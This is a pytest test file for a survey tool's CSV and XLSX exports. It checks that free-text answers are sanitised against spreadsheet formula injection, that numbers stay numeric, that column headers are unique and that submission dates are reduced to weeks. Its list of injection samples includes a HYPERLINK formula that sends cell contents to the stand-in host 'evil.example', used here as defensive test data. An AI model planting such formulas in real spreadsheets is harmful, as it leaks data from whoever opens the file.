"""Every exported text cell passes one sanitiser (formula injection, control
characters) in CSV, Swedish-Excel CSV and XLSX, numbers stay numbers, the
database keeps the text as typed; every raw table's header is unique; raw
files carry the submission week, never the day. Through the real download
routes on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from scoring.report import score_report
from surveys.dataset import from_records
from surveys.exports import FORMATS, WaveData, render
from surveys.exports.sanitise import text_cell
from surveys.exports.table import build_table
from surveys.loader import load_all

from .conftest import answer

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "+41-1", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\rCR=1", "ok\x01\x02\x1ftext", "\x07=BELL()", "Årby 🚲, \"torget\""]


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"),
    ("\t=1", "'=1"), ("\r=1", "'=1"), ("a\x01b\x1fc", "abc"), ("\x01=1", "'=1"),
    ("rad ett\nrad två", "rad ett rad två"), ("Årby", "Årby"), ("'=1", "'=1")])
def test_text_cell(value: str, expected: str) -> None:
    assert text_cell(value) == expected
    assert text_cell(text_cell(value)) == text_cell(value)  # once is enough


def _safe(cell: str) -> bool:
    return not re.search(r"[\x00-\x1f]", cell) and not cell.startswith(("=", "+", "-", "@"))


def test_attack_strings_in_every_spreadsheet_format(env, logged_in) -> None:
    store = env.store
    texts = {}
    for k, attack in enumerate(ATTACKS):
        # unsafe_places is free text, unsafe_themes_other the "other" answer
        values = {"area": 1 + k % 3, "gender": 1, "unsafe_themes": [1, 99],
                  "unsafe_places": attack, "unsafe_themes_other": attack}
        answer(store, "medborg-2018", values, code=store.issue_codes("medborg-2018", 1)[0])
        texts[k] = attack.strip()
    c = logged_in("admin")
    # the database keeps the text as typed (answers are stripped of outer spaces only)
    ds = store.wave_dataset("medborg-2018")
    assert sorted(t for t in ds.texts["unsafe_places"] if t) == sorted(texts.values())

    for key, delimiter in (("raw-csv", ","), ("raw-csv-sv", ";")):
        r = c.get(f"/analyst/medborg-2018/downloads/{key}")
        assert r.status_code == 200
        body = r.data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=delimiter))
        header, data = rows[0], rows[1:]
        assert len(data) == len(ATTACKS)
        assert len(header) == len(set(header))
        for row in data:
            assert all(_safe(cell) for cell in row), row
        places = sorted(row[header.index("unsafe_places")] for row in data)
        assert places == sorted(text_cell(t) for t in texts.values())
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klicka\")" in places
        area = [row[header.index("area")] for row in data]
        assert all(re.fullmatch(r"[123]", a) for a in area)  # numeric stays numeric

    r = c.get("/analyst/medborg-2018/downloads/raw-xlsx")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere
    wb = openpyxl.load_workbook(io.BytesIO(r.data))
    rows = list(wb["data"].values)
    header = list(rows[0])
    assert len(header) == len(set(header))
    for row in rows[1:]:
        for cell in row:
            if isinstance(cell, str):
                assert _safe(cell), cell
    assert all(isinstance(row[header.index("area")], int) for row in rows[1:])
    places = sorted(row[header.index("unsafe_places")] for row in rows[1:])
    assert places == sorted(text_cell(t) for t in texts.values())


@pytest.mark.parametrize("instrument_id", ["cannabis-attityd", "trygghet", "medborgardialog"])
def test_raw_headers_unique_for_every_instrument(instrument_id: str) -> None:
    import datetime as dt

    instrument = load_all()[instrument_id]
    from tests.store.test_wave_read import generate

    records = generate(instrument, 30, seed=3)
    for record in records:
        record["submitted_on"] = dt.date(2026, 11, 24)
    ds = from_records(instrument, records, {"school": ["A", "B", "C", "D"]})
    table = build_table(instrument, ds)
    assert len(table.names) == len(set(table.names)), [n for n in table.names
                                                       if table.names.count(n) > 1]
    assert "submitted_week" in table.names and "submitted_on" not in table.names
    week = table.columns[table.names.index("submitted_week")]
    assert set(week) == {"2026-W48"}
    wave = WaveData(instrument, ds, score_report(instrument, ds), presets={"school": ["A", "B", "C", "D"]})
    for key in ("raw-csv", "raw-csv-sv"):
        body = render(key, wave).decode("utf-8-sig")
        header = next(csv.reader(io.StringIO(body), delimiter="," if key == "raw-csv" else ";"))
        assert len(header) == len(set(header))
        assert "2026-11-24" not in body
    wb = openpyxl.load_workbook(io.BytesIO(render("raw-xlsx", wave)))
    header = [c.value for c in next(wb["data"].iter_rows(max_row=1))]
    assert len(header) == len(set(header))
    assert FORMATS["raw-csv"].stream is not None


@pytest.mark.parametrize("instrument_id", ["cannabis-attityd", "trygghet", "medborgardialog"])
@pytest.mark.parametrize("swedish", [False, True])
def test_streamed_csv_equals_the_csv_module(instrument_id: str, swedish: bool) -> None:
    """The column-at-a-time CSV writer makes the bytes csv.writer makes."""
    import numpy as np

    from surveys.exports import csv_raw
    from tests.store.test_wave_read import generate

    instrument = load_all()[instrument_id]
    presets = {"school": ["A", "B;x", 'C"q', "D, E"]}
    ds = from_records(instrument, generate(instrument, 700, seed=5), presets)
    table = build_table(instrument, ds, presets, {"s": np.linspace(-1, 3.3, ds.n)})
    chunks = list(csv_raw.iter_csv(table, swedish=swedish))
    assert len(chunks) > 1  # streamed
    assert b"".join(chunks) == csv_raw.write_rows(table.names, table.rows, swedish=swedish)
